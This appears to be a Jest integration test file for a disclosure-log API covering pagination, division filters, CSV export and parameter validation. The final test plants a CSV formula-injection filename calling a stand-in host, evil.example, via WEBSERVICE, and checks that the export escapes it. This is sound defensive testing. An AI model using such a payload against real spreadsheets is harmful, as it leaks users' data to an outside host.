import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { dynamoReadModels } from '../../adapters/dynamodb/read-models.js';
import { loadDisclosureLogPage } from '../../application/reports.js';
import type { LocalStack } from '../../local/stack.js';
import { parse } from 'csv-parse/sync';
import { as } from '../support/agency.js';
import { caller, startTestStack } from '../support/stack.js';

let stack: LocalStack;
let api: ReturnType<typeof caller>;
beforeAll(async () => {
  stack = await startTestStack();
  api = caller(stack);
  const end = new Date('2027-03-31T12:00:00Z');
  if (stack.clock.now() < end) stack.clock.moveTo(end);
}, 60_000);
afterAll(async () => stack.stop());

const at = (month: number, day: number, hour = 10) =>
  `2027-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:00:00+06:00`;

/** A request received, assigned, cleared by its division's spokesperson and answered at `sentAt`. */
const answered = async (
  division: 'legal' | 'ppd',
  receivedAt: string,
  sentAt: string,
  attachments: readonly Record<string, unknown>[] = [],
): Promise<string> => {
  const out = await stack.core.commands.receive(
    {
      channel: 'email',
      requester: { name: 'R', email: 'r@example.bt', kind: 'public' },
      subject: `Data for ${division}`,
      body: { inline: 'x' },
      attachments: [],
      receivedAt,
    },
    { now: receivedAt, actor: as('ict.officer') },
  );
  if (!out.ok) throw out.error;
  const id = out.requestId;
  const run = async (type: string, data: Record<string, unknown>, by: string, now: string) => {
    const r = await stack.core.commands.execute(id, { type, data, metadata: { now, actor: as(by) } } as never);
    if (!r.ok) throw r.error;
  };
  await run('AssignRequest', { division }, 'ict.officer', receivedAt);
  await run(
    'RecordConsultation',
    { with: 'spokesperson', person: `spokesperson.${division}`, outcome: 'cleared' },
    `spokesperson.${division}`,
    receivedAt,
  );
  await run(
    'SendResponse',
    { responseId: 'r1', body: { inline: 'here' }, disposition: 'full', attachments },
    `${division}.officer`,
    sentAt,
  );
  return id;
};

describe('the disclosure log without a period', () => {
  it('is the whole log, newest first, a page at a time, for the agency or one division, and as CSV', async () => {
    // Prepare: four responses over two months and two divisions
    const a = await answered('legal', at(2, 1), at(2, 2));
    const b = await answered('ppd', at(2, 3), at(2, 4));
    const c = await answered('legal', at(3, 1), at(3, 2));
    const d = await answered('ppd', at(3, 3), at(3, 4));
    await stack.settle();

    // Act: walk the log two at a time
    const first = await api('GET', '/disclosures?limit=2', { as: 'auditor' });
    const second = await api('GET', `/disclosures?limit=2&cursor=${String(first.body.nextCursor)}`, { as: 'auditor' });
    const legal = await api('GET', '/disclosures?division=legal', { as: 'legal.chief' });
    const csv = await (
      await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })
    ).text();

    // Assess
    const ids = (r: typeof first) => (r.body.items as { requestId: string }[]).map((x) => x.requestId);
    expect(first.status).toBe(200);
    expect(ids(first)).toEqual([d, c]);
    expect(first.body.nextCursor).toEqual(expect.any(String));
    expect(ids(second)).toEqual([b, a]);
    expect(second.body.nextCursor).toBeUndefined();
    expect(ids(legal)).toEqual([c, a]);
    expect(legal.body.nextCursor).toBeUndefined();
    const lines = csv.trim().split('\n');
    expect(lines).toHaveLength(5);
    expect(lines.slice(1).map((l) => l.split(',')[1])).toEqual([d, c, b, a]);
  }, 60_000);

  it('reads the page and one more item, however long the log', async () => {
    // Prepare: the log as it stands (four entries or more); a page of one
    const readModels = dynamoReadModels(stack.doc, stack.tableNames.readModels);
    const deps = { readModels, timeZone: stack.agency.config.calendar.timeZone };
    // Act
    const page = await loadDisclosureLogPage(deps, { limit: 1 });
    const next = await loadDisclosureLogPage(deps, { limit: 1, after: page.nextAfter as string });
    // Assess
    expect(page.rows).toHaveLength(1);
    expect(page.itemsRead).toBe(2);
    expect(next.itemsRead).toBe(2);
    expect(String(next.rows[0]?.sentAt) < String(page.rows[0]?.sentAt)).toBe(true);
  });

  it('refuses half a period, a period with paging, and a cursor it did not give', async () => {
    const half = await api('GET', '/disclosures?from=2027-02-01', { as: 'auditor' });
    const paged = await api('GET', '/disclosures?from=2027-02-01&to=2027-02-28&limit=2', { as: 'auditor' });
    const forged = await api('GET', '/disclosures?cursor=not-a-cursor', { as: 'auditor' });
    expect([half.status, paged.status, forged.status]).toEqual([400, 400, 400]);
    expect((await api('GET', '/disclosures', { as: 'auditor' })).status).toBe(200);
    expect((await api('GET', '/disclosures', { as: 'secretary' })).status).toBe(200);
  });
});

describe('the disclosure log as CSV, opened in a spreadsheet', () => {
  it('carries a file named like a formula as text, never as a live formula', async () => {
    // Prepare: a response whose attachment a requester named to run in Excel
    const filename = '=WEBSERVICE("https:evil.example?"&A1).pdf';
    const id = await answered('legal', at(3, 10), at(3, 11), [
      {
        filename,
        contentType: 'application/pdf',
        sizeBytes: 3,
        sha256: 'a'.repeat(64),
        storageKey: `attachments/${'a'.repeat(64)}`,
      },
    ]);
    await stack.settle();
    // Act
    const csv = await (
      await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })
    ).text();
    // Assess
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.request === id);
    expect(row?.attachment).toBe(`'${filename}`);
    expect(rows.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });
});
